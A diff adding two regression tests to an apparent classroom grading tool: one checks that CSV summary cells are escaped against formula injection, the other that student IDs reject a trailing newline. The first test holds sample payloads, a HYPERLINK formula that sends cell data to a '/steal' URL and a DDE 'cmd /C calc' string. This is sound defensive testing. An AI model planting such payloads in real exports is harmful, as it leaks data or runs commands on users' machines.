@@ -53,3 +53,37 @@ def test_records_of_another_format_or_without_a_fingerprint_are_never_current(tm
     assert store.load("old") is None and store.load("torn") is None
     unrun = GradeRecord("bob", "bob", a_record().result)  # nothing was run: no submission fingerprint
     assert not unrun.is_current("", "")
+
+
+def test_summary_csv_cells_are_never_formulas(tmp_path):
+    # Review attack rogue_loopback_worker (ROGUE_CSV): a member's record set grader and graded_at to
+    # =HYPERLINK(...) and @SUM(...), written verbatim into every row of summary.csv.
+    import csv
+    import dataclasses
+
+    record = dataclasses.replace(a_record(), grader='=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"x")',
+                                 graded_at="@SUM(1+1)*cmd|' /C calc'!A0")
+    store = ResultStore(tmp_path)
+    rows = list(csv.DictReader(store.write_summary(COURSE, [record]).open(encoding="utf-8")))
+    assert rows[0]["graded_by"] == "'" + record.grader and rows[0]["graded_at"] == "'" + record.graded_at
+    assert rows[0]["student"] == "alice" and rows[0]["total"] == f"{record.total:g}"  # numbers stay numbers
+    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())
+
+
+def test_a_student_id_never_ends_in_a_newline(tmp_path):
+    # Review attack newline_student_id: SAFE_ID ended in "$", which also matches before a final newline, so a
+    # file "bob\n.py" beside bob.py was graded as a student of its own, shown as "bob" in the report.
+    from grader.classgrade.run import discover_submissions
+    from grader.engine.store import SAFE_ID
+
+    from grader.notebooks.extract import CELL_ID, CHECKSUM, GRADE_ID
+
+    assert SAFE_ID.match("bob") and not SAFE_ID.match("bob\n")
+    # The same "$" let nbgrader metadata end in a newline: a grade id goes into nbgrader's log unescaped.
+    for pattern, name in ((GRADE_ID, "double"), (CELL_ID, "cell-1"), (CHECKSUM, "abc123")):
+        assert pattern.match(name) and not pattern.match(name + "\n"), pattern
+    (tmp_path / "bob.py").write_text("x = 1\n")
+    (tmp_path / "bob\n.py").write_text("x = 1\n")
+    skipped: dict = {}
+    assert list(discover_submissions(tmp_path, skipped)) == ["bob"]
+    assert len(skipped) == 1 and "a student id may hold" in next(iter(skipped.values())), skipped
